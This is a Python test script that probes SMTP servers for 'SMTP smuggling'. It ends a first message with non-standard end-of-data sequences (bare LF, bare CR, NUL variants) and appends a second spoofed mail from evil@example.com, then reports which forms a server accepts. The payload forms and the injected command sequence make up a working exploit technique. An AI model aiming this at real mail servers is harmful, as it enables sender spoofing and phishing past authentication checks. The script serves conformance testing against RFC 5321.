#!/usr/bin/env python3
"""Tries to smuggle a second mail into a session, within the message of a first one, by ends that are none.

smuggle.py upstream KIND           starts one, sends to it, prints for each form what arrived
smuggle.py send --port N [--host H] [--security none|tls|starttls] [--ca FILE] [--user U --password P]
                                   sends, and prints one line of JSON: [{"id", "form", "cut", "replies"}, …]

Each probe logs in, begins a message of good.ID@example.org and ends it by a form: every one of CRLF, LF and CR, a dot,
every one of these again; or NULs about. Then come the commands and the message of evil.ID@example.com, and
<CRLF>.<CRLF>. Each form is sent in one write, cut in two at each octet (`cut`), and with the rest held back until the
server answers the form or has been silent for a while. A server that holds to RFC 5321 section
4.1.1.4 takes one mail, or none; two of <CRLF>.<CRLF>, which the client is free to end a message by.
"""

import argparse
import base64
import json
import select
import socket
import ssl
import sys

from upstream import KINDS

ENDS = {"CRLF": b"\r\n", "LF": b"\n", "CR": b"\r"}
FORMS = {f"{first} . {last}": start + b"." + end for first, start in ENDS.items() for last, end in ENDS.items()}
FORMS |= {"CRLF NUL . CRLF": b"\r\n\0.\r\n", "CRLF . NUL CRLF": b"\r\n.\0\r\n", "NUL LF . CRLF": b"\0\n.\r\n",
          "CR NUL LF . CRLF": b"\r\0\n.\r\n", "CRLF . CR CRLF": b"\r\n.\r\r\n", "CR CRLF . CRLF": b"\r\r\n.\r\n"}
LEGAL = {"CRLF . CRLF", "CR CRLF . CRLF"}
SILENCE = 0.3  # seconds


class Session:
    def __init__(self, place, security):
        self.socket = socket.create_connection((place["host"], place["tls" if security == "tls" else "port"]), 20)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if security == "tls":
            self._secure(place)
        self.reader = self.socket.makefile("rb")
        self.reply()
        if security == "starttls":
            self.ask("EHLO client.example")
            self.ask("STARTTLS")
            self._secure(place)
            self.reader = self.socket.makefile("rb")
        self.ask("EHLO client.example")
        if place.get("user"):
            word = base64.b64encode(f"\0{place['user']}\0{place['password']}".encode()).decode()
            self.ask(f"AUTH PLAIN {word}")

    def _secure(self, place):
        self.socket = ssl.create_default_context(cafile=place["ca"]).wrap_socket(
            self.socket, server_hostname="localhost")

    def ask(self, line):
        self.socket.sendall(line.encode() + b"\r\n")
        reply = self.reply()
        if reply[:1] not in ("2", "3"):
            raise OSError(f"{line.split()[0]} was answered by {reply or 'the end'}")

    def reply(self):
        while (line := self.reader.readline().decode(errors="replace")) and line[3:4] == "-":
            pass
        return line.strip()

    def smuggle(self, number, end, cut):
        self.ask(f"MAIL FROM:<good.{number}@example.org>")
        self.ask("RCPT TO:<bob@example.net>")
        self.ask("DATA")
        before = f"From: alice@example.org\r\nSubject: good {number}\r\n\r\ntext".encode()
        after = (f"MAIL FROM:<evil.{number}@example.com>\r\nRCPT TO:<victim@example.net>\r\nDATA\r\n"
                 f"From: evil@example.com\r\nSubject: evil {number}\r\n\r\ntext\r\n.\r\n").encode()
        pieces = (before + end[:cut], end[cut:] + after) if cut else (before + end + after,)
        replies = []
        try:
            self.socket.sendall(pieces[0])
            if cut == len(end) and select.select([self.socket], [], [], SILENCE)[0]:
                replies.append(self.reply())
                after = self._lines(after, replies)
            for piece in pieces[1:]:
                self.socket.sendall(piece if cut < len(end) else after)
            self.socket.sendall(b"QUIT\r\n")
            while reply := self.reply():
                replies.append(reply)
        except OSError as error:
            replies.append(str(error))
        self.socket.close()
        return replies

    def _lines(self, after, replies):
        """Sends the commands one by one, as a server without PIPELINING wants it; returns the rest."""
        while replies[-1][:1] == "2" and after:
            line, _, after = after.partition(b"\r\n")
            self.socket.sendall(line + b"\r\n")
            replies.append(self.reply())
        return after


def send(place, security):
    """All probes; `place` as an upstream says it."""
    probes = []
    for form, end in FORMS.items():
        for cut in range(len(end) + 1):
            number = len(probes)
            replies = Session(place, security).smuggle(number, end, cut)
            probes.append({"id": number, "form": form, "cut": cut, "replies": replies})
    return probes


def report(probes, deliveries):
    """Prints what arrived, form by form; returns how many mails were smuggled."""
    senders = [mail["sender"] for mail in deliveries]
    total = 0
    for form in FORMS:
        tried = [probe for probe in probes if probe["form"] == form]
        good = sum(senders.count(f"good.{probe['id']}@example.org") for probe in tried)
        evil = sum(senders.count(f"evil.{probe['id']}@example.com") for probe in tried)
        total += 0 if form in LEGAL else evil
        more = f", {evil} more {'as it may' if form in LEGAL else 'SMUGGLED'}" if evil else ""
        print(f"  {form:18} {len(tried)} sent, {good} arrived{more}; the first: {' / '.join(tried[0]['replies'])}")
    print(f"  {len(probes)} sent, {len(senders)} mails arrived, {total} of them smuggled")
    return total


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    commands = parser.add_subparsers(dest="command", required=True)
    commands.add_parser("upstream").add_argument("kind", choices=KINDS)
    there = commands.add_parser("send")
    there.add_argument("--host", default="127.0.0.1")
    there.add_argument("--port", type=int, required=True)
    there.add_argument("--security", choices=("none", "tls", "starttls"), default="none")
    for name in ("--ca", "--user", "--password"):
        there.add_argument(name)
    arguments = parser.parse_args()
    try:
        if arguments.command == "send":
            place = vars(arguments) | {"tls": arguments.port}
            print(json.dumps(send(place, arguments.security)))
            return
        with KINDS[arguments.kind]() as server:
            probes = send(server.start().description(), "tls")
            print(arguments.kind)
            report(probes, server.settled())
    except OSError as error:
        sys.exit(f"smuggle.py: {error}")


if __name__ == "__main__":
    main()
